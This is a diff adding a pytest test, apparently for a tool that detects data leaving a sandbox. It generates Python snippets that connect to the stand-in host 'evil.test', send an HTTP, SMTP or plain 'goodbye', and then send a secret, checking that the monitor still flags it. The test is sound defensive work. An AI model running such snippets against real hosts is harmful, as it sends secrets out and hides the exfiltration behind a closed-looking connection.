@@ -258,6 +258,33 @@ def test_urgent_bytes_are_read_like_others(measure: Measure, port: int, before: 
     assert measure(*python(code)).secret_left is CheckState.MET
 
 
+GOODBYES = {
+    "request": ("80", "GET / HTTP/1.0\\r\\n\\r\\n"),
+    "asked-to-close": ("80", "GET / HTTP/1.1\\r\\nhost: evil.test\\r\\nconnection: close\\r\\n\\r\\n"),
+    "mail": ("25", "QUIT\\r\\n"),
+    "silence": ("9000", "hello\\n"),
+}
+
+
+@pytest.mark.parametrize("tls", [False, True], ids=["plain", "tls"])
+@pytest.mark.parametrize("way", sorted(GOODBYES))
+def test_what_is_sent_after_goodbye_is_read_too(measure: Measure, way: str, tls: bool) -> None:
+    port, first = GOODBYES[way]
+    if tls and way == "mail":
+        port = "465"
+    wrap = "s = ssl.create_default_context().wrap_socket(s, server_hostname='evil.test')\n" if tls else ""
+    code = (
+        f"import socket, ssl\ns = socket.create_connection(('evil.test', {port}))\n{wrap}"
+        f"s.sendall(b'{first}')\n"
+        "while s.recv(999): pass\n"
+        f"s.sendall(b'{SECRET}')"
+    )
+    seen = measure(*python(code))
+    assert seen.exit.clean, seen.output
+    assert seen.secret_left is CheckState.MET
+    assert seen.channels[Channel.HTTP].state is ChannelState.OBSERVED
+
+
 def test_bytes_that_are_no_text_may_be_anything(measure: Measure) -> None:
     code = "import socket; s = socket.create_connection(('vpn.test', 1194)); s.sendall(bytes(range(256)))"
     seen = measure(*python(code))
